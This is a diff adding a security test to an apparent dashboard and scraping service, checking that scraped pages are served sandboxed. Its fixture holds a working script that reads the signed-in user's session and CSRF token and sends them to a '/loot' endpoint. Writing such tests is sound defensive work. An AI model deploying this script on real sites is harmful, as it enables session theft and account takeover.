@@ -27,6 +27,16 @@ import {
 
 const SHOTS = join(tmpdir(), 'dashboard-screenshots');
 
+/** Where /steal's script ran, each time it did (and what it read there, after a space). */
+const loot: string[] = [];
+const stealingPage = (home: string) => `<title>Scraped</title><p>An ordinary page.</p><script>
+  window.__ran = true;
+  const home = ${JSON.stringify(home)};
+  fetch('/dashboard/api/session', { credentials: 'include' })
+    .then((r) => r.text(), () => 'unreadable')
+    .then((text) => fetch(home + '/loot?from=' + encodeURIComponent(location.origin + ' ' + text)));
+</script>`;
+
 let stack: TestStack;
 let fixture: FixtureServer;
 let receiver: WebhookReceiver;
@@ -44,6 +54,13 @@ beforeAll(async () => {
   console.log(`dashboard screenshots: ${SHOTS}`);
   fixture = await startFixtureServer({
     '/dash-task': (_req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end('<title>Task</title><h1 style="color:#2450c7">Dashboard task</h1>'),
+    // Someone else's page, scraped through the API: its script reads the dashboard's session (CSRF token
+    // included) from whatever origin it runs on and sends it home.
+    '/steal': (req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end(stealingPage(`http://${req.headers.host}`)),
+    '/loot': (req, res) => {
+      loot.push(new URL(req.url ?? '/', 'http://fixture').searchParams.get('from') ?? '');
+      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
+    },
   });
   // Two edges: a session opened on one must hold (and end) on the other.
   stack = await startTestStack({ edges: 2, env: { ALLOW_PRIVATE_TARGETS: '1' } });
@@ -356,6 +373,32 @@ describe('Account dashboard', () => {
       const file = await httpsRequest(link.replace(base, `https://127.0.0.1:${stack.port}`), { ca: stack.certPem, servername: 'localhost' });
       expect(file.status).toBe(200);
       await shoot('renders');
+    });
+  });
+
+  describe('When the signed-in owner opens a page someone scraped through the API', () => {
+    it("should show it without running its scripts, so nothing on the dashboard's origin can be read", async () => {
+      const other = await admin.create('scale', 'Another account');
+      const stealing = `${fixture.origin}/steal`;
+      const tab = await browser.newPage();
+      try {
+        // The script works: opened at its own origin it runs (and can read nothing of ours).
+        await tab.goto(stealing, { waitUntil: 'load' });
+        expect(await tab.evaluate(() => (window as unknown as { __ran?: boolean }).__ran)).toBe(true);
+        // A render link anyone can make with their own key, opened by the signed-in owner.
+        const link = `${base}/v1/scrape?${new URLSearchParams({ access_key: other.accessKey, url: stealing })}`;
+        const opened = await tab.goto(link, { waitUntil: 'load' });
+        expect(opened!.status()).toBe(200);
+        expect(await tab.$eval('p', (el) => el.textContent)).toBe('An ordinary page.');
+        // Had its script run, its report would be here by now (the fixture answers on loopback at once).
+        await new Promise((r) => setTimeout(r, 1_000));
+        expect(loot.filter((from) => from.startsWith(base))).toEqual([]);
+        expect(await tab.evaluate(() => [self.origin, (window as unknown as { __ran?: boolean }).__ran ?? false])).toEqual(['null', false]);
+        expect(opened!.headers()['content-security-policy']).toBe('sandbox');
+      } finally {
+        await tab.close();
+        await page.bringToFront();
+      }
     });
   });
 
